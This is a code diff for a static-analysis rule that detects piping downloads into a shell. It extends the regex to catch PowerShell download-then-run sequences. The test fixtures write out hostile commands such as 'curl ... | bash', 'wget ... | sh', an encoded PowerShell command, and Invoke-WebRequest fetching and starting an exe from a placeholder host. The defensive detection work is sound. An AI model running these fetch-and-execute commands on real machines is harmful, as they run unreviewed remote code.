@@ -33,11 +33,16 @@ pub const PIPE_SHELL: Rule = pattern(
     "Piping a download into a shell runs unreviewed remote code on the installing machine.",
     Langs::ALL,
     Target::Both,
-    r"(?i)(?:\b(?:curl|wget)\b[^\n|;]{0,200}\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|\b(?:iwr|invoke-webrequest|irm|invoke-restmethod|downloadstring)\b[^\n]{0,200}\|\s*(?:iex|invoke-expression)\b|\biex\s*\(\s*(?:new-object\s+net\.webclient|iwr|irm)|\bpowershell(?:\.exe)?\b[^\n]{0,60}\s-(?:e|ec|enc|encodedcommand)\s+[A-Za-z0-9+/=]{16,}|\bcertutil(?:\.exe)?\s+-urlcache\b|\bbitsadmin(?:\.exe)?\s+/transfer\b|\bmshta(?:\.exe)?\s+https?:|/dev/tcp/\d)",
+    r"(?i)(?:\b(?:curl|wget)\b[^\n|;]{0,200}\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|\b(?:iwr|invoke-webrequest|irm|invoke-restmethod|downloadstring)\b[^\n]{0,200}\|\s*(?:iex|invoke-expression)\b|\biex\s*\(\s*(?:new-object\s+net\.webclient|iwr|irm)|\bpowershell(?:\.exe)?\b[^\n]{0,60}\s-(?:e|ec|enc|encodedcommand)\s+[A-Za-z0-9+/=]{16,}|\b(?:iwr|invoke-webrequest|wget|curl|start-bitstransfer)\b[^\n]{0,300}\s-(?:outfile|destination)\b[^\n]{0,300}\b(?:start-process|saps|start|invoke-item|ii)\b|\bcertutil(?:\.exe)?\s+-urlcache\b|\bbitsadmin(?:\.exe)?\s+/transfer\b|\bmshta(?:\.exe)?\s+https?:|/dev/tcp/\d)",
     &[
         fires("a.py", "os.system('curl -fsSL https://x.example/i.sh | bash')"),
         fires("a.js", "exec(\"powershell -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0A\")"),
         fires("install.sh", "wget -qO- http://x.example/p | sh\n"),
+        fires(
+            "a.py",
+            "Invoke-WebRequest -Uri http://x.example/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe",
+        ),
+        quiet("a.py", "cmd = 'Invoke-WebRequest -Uri https://x.example/f.zip -OutFile f.zip'"),
         quiet("a.py", "# curl https://x | sh\ncmd = ['curl', '-o', 'f', url]"),
     ],
 )
